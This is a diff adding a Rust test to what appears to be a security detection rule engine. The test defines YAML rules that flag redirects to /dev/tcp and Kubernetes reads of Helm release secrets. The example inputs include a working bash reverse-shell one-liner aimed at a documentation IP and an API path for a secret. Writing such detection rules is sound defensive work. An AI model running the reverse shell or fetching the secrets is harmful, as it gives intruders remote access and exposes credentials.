@@ -65,6 +65,37 @@ fn invalid_packs_name_the_file_and_rule() {
 }
 
 #[test]
+fn redirects_to_files_and_kubernetes_names_can_be_matched() {
+    let mut rules = RuleSet::default();
+    rules
+        .add_yaml(
+            "mine.yaml",
+            r#"
+rules:
+  - id: test.devtcp
+    title: Redirected output to a TCP socket
+    techniques: [T1095]
+    risk: HIGH
+    match: { redirect: ['^/dev/tcp/'] }
+    examples:
+      match: ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "echo x > /dev/tcp/203.0.113.9/80"]
+      no_match: ["make 2>&1", "cmd >&-"]
+  - id: test.helm-secret
+    title: Read a Helm release secret
+    techniques: [T1552.007]
+    risk: MEDIUM
+    kube: { verb: [get], resource: [secrets], name: ['^sh\.helm\.release\.'] }
+    examples:
+      match: ["GET /api/v1/namespaces/shop/secrets/sh.helm.release.v1.shop.v42"]
+      no_match: ["GET /api/v1/namespaces/shop/secrets/db-password"]
+"#,
+        )
+        .unwrap();
+    let failures = rules.check_examples();
+    assert!(failures.is_empty(), "{failures:?}");
+}
+
+#[test]
 fn v18_technique_ids_are_mapped_to_v19() {
     let mut rules = RuleSet::default();
     rules.add_yaml("mine.yaml", &GOOD_RULE.replace("T1005", "T1562.001")).unwrap();
